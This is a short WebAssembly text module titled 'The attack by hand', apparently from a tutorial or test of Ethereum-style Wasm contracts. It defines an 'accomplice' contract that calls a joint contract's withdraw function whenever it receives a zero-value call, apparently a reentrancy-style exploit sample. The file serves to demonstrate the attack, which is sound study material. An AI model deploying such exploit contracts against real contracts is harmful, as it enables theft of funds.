;; The attack by hand.

(module $accomplice
  (import "contract:joint" "withdraw" (func $joint.withdraw))
  (import "ethereum" "getCallValue" (func $getCallValue (param i32)))
  (memory $memory (export "memory") 1)

  ;; The value that comes with the call.
  (func $value (result i64)
    (call $getCallValue (i32.const 32))
    (i64.load $memory (i32.const 32)))

  (func $main (export "main")
    (if (i64.eq (call $value) (i64.const 0))
      (then (call $joint.withdraw)))))
